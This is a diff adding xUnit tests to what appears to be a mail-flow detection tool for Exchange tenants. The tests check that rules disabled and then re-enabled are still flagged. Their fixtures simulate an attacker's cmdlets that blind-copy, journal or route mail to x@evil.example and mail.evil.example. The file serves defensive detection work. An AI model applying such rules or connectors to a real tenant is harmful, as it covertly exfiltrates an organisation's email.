@@ -1,3 +1,4 @@
+using System;
 using System.Linq;
 using Xunit;
 using static StormDetect.Core.Tests.Detection.MailboxChanges.ChangedTenant;
@@ -6,6 +7,34 @@ namespace StormDetect.Core.Tests.Detection.MailboxChanges;
 
 public sealed class MailFlowTests
 {
+    [Fact]
+    public void A_rule_that_was_switched_off_and_on_again_was_not_taken_back()
+    {
+        ChangedTenant tenant = new ChangedTenant().Cmdlet(1, "New-TransportRule", Mallory, ("Name", "Archive"), ("BlindCopyTo", "x@evil.example"))
+            .Cmdlet(2, "Disable-TransportRule", Mallory, ("Identity", "Archive"));
+        Assert.True(tenant.Single().IsReverted);
+
+        MailboxChangeFinding finding = tenant.Cmdlet(3, "Enable-TransportRule", Mallory, ("Identity", "Archive")).Single();
+        Assert.False(finding.IsReverted);
+        Assert.Contains("x@evil.example", finding.Destinations);
+        Assert.Contains(finding.NextSteps, static step => step.Command?.Contains("Disable-TransportRule", StringComparison.Ordinal) == true);
+    }
+
+    [Theory]
+    [InlineData("New-JournalRule", "JournalEmailAddress", "x@evil.example", "Disable-JournalRule", "Enable-JournalRule")]
+    [InlineData("New-OutboundConnector", "SmartHosts", "mail.evil.example", "Set-OutboundConnector", "Set-OutboundConnector")]
+    [InlineData("New-InboundConnector", "SenderDomains", "*", "Set-InboundConnector", "Set-InboundConnector")]
+    public void Journal_rules_and_connectors_are_not_taken_back_either_when_they_are_switched_on_again(string make, string parameter, string value, string off, string on)
+    {
+        ChangedTenant tenant = new ChangedTenant().Cmdlet(1, make, Mallory, ("Name", "Archive"), (parameter, value)).Cmdlet(2, off, Mallory, ("Identity", "Archive"), ("Enabled", "False"));
+        Assert.True(tenant.Single().IsReverted);
+        Assert.False(tenant.Cmdlet(3, on, Mallory, ("Identity", "Archive"), ("Enabled", "True")).Single().IsReverted);
+    }
+
+    [Fact]
+    public void A_journal_rule_of_which_the_log_has_nothing_else_is_said_to_be_switched_on() =>
+        Assert.EndsWith("switched on journal rule 'Archive'", new ChangedTenant().Cmdlet(1, "Enable-JournalRule", Mallory, ("Identity", "Archive")).Single().Title, System.StringComparison.Ordinal);
+
     [Theory]
     [InlineData("BlindCopyTo")]
     [InlineData("RedirectMessageTo")]
